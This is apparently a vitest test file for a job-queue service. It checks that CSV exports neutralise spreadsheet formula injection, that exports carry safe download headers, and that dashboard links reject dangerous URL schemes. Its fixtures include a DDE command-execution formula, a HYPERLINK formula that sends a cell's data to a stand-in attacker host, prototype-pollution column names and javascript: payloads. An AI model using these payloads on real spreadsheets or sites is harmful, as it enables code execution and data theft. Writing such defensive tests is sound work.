import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { checkDashboard } from '../../../src/config/dashboard.js'
import { defineTask } from '../../../src/task/define.js'
import { freshServers } from '../../support/lab.js'
import { until } from '../../support/until.js'
import { api, get, openWeb, type Scene } from '../api/scene.js'
import { ask } from '../shop.js'

const formulas = [
  ...[
    '=cmd|"/c calc"!A0',
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
  ],
  ...[
    '=HYPERLINK("https://evil.example?x="&A1,"see")',
    'x;=1',
    'x\t=1',
    '"=1',
    '";=1',
    '",=1,"',
    "'=1",
    '\0=1',
  ],
]

const shop = {
  say: defineTask((text: string) => text),
  measure: defineTask((text: string) => text.length),
  fail: defineTask((text: string) => {
    throw new Error(text)
  }),
}

let scene: Scene

beforeAll(async () => {
  scene = await openWeb(await freshServers('postgres'), { options: { tasks: { shop }, worker: true } })
  for (const text of formulas) {
    // Owners and tags take no control characters.
    const plain = text.replace(/[\0\t\r\n]/, '')
    await shop.say.enqueue(text, { tags: [plain], owner: plain })
    await shop.fail.enqueue(text, { tags: [plain, plain] })
  }
  const open = async () => (await get(scene, '/job-count?state=queued,running')).body.count
  await until(async () => (await open()) === 0, { timeoutMs: 60_000 })
}, 180_000)

afterAll(() => scene?.close())

async function exported(query: string) {
  const answer = await ask(scene, `${api}/job-export?${query}`, { headers: { 'X-User': 'ann' } })
  expect(answer.status).toBe(200)
  return answer
}

/** As RFC 4180 has it. */
function cellsOf(csv: string, separator: string): string[] {
  const cells: string[] = []
  let cell = ''
  let isQuoted = false
  for (let at = 0; at < csv.length; at += 1) {
    const letter = csv[at] ?? ''
    if (isQuoted && letter === '"' && csv[at + 1] === '"') {
      cell += '"'
      at += 1
    } else if (letter === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted
    else if (!isQuoted && (letter === separator || letter === '\n')) {
      cells.push(cell.replace(/\r$/, ''))
      cell = ''
    } else cell += letter
  }
  return [...cells, cell]
}

describe('S18: an export', () => {
  const columns = 'id,task,queue,state,owner,tags,payload,result,error'

  test.each([',', ';', '\t'])(
    'has no formula in any cell, however a spreadsheet parts them: by %j',
    async (separator) => {
      const { body } = await exported(`format=csv&columns=${columns}`)

      expect(body.split('\r\n').length).toBeGreaterThan(2 * formulas.length)
      expect(cellsOf(body, separator).filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([])
    },
  )

  test('keeps the texts as they are, beside the mark', async () => {
    const { body } = await exported(`format=csv&columns=payload&task=shop.say`)
    const cells = cellsOf(body, ',').slice(1, -1)

    expect(cells).toHaveLength(formulas.length)
    const unmarked = (text: string) => text.replace(/(^|[;\t\r\n]["\s]*)'/g, '$1')
    expect(cells.map(unmarked).sort()).toEqual(formulas.map(unmarked).sort())
  })

  // Tried from each blank, a look back over all of them would take an hour.
  test('S33: holds nobody up over a long run of blanks', async () => {
    await shop.measure.enqueue(`${' '.repeat(200_000)}x`)
    const from = performance.now()
    const { body } = await exported('format=csv&columns=payload&task=shop.measure')

    expect(body.length).toBeGreaterThan(200_000)
    expect(performance.now() - from).toBeLessThan(5000)
  })

  test('as JSON Lines is as it is', async () => {
    const { body } = await exported('format=jsonl&columns=payload&task=shop.say')
    const payloads = body
      .trimEnd()
      .split('\n')
      .map((line) => (JSON.parse(line) as { payload: string }).payload)

    expect(payloads.sort()).toEqual([...formulas].sort())
  })

  test.each(['csv', 'jsonl'])('as %s is a file, which no browser shows', async (format) => {
    const { headers } = await exported(`format=${format}`)

    expect(headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+"$/)
    expect(headers['x-content-type-options']).toBe('nosniff')
    expect(headers['content-type']).toMatch(/^(text\/csv|application\/jsonl)/)
    expect(headers['cache-control']).toContain('no-store')
  })

  test.each(['payload,__proto__', 'constructor', 'id,(select 1)', '', 'id;task', '*'])(
    'has no column %j',
    async (asked) => {
      const query = new URLSearchParams({ columns: asked })
      const { status } = await ask(scene, `${api}/job-export?${query}`, { headers: { 'X-User': 'ann' } })
      expect(status).toBe(400)
    },
  )
})

test.each([
  'javascript:alert(1)//{traceId}',
  'data:text/html,{traceId}',
  '//evil.example/{traceId}',
  'vbscript:x{traceId}',
  ' javascript:{traceId}',
])('S18: no link is made of %j', (traceUrl) => {
  expect(() => checkDashboard({ traceUrl }, '/')).toThrow('traceUrl')
})
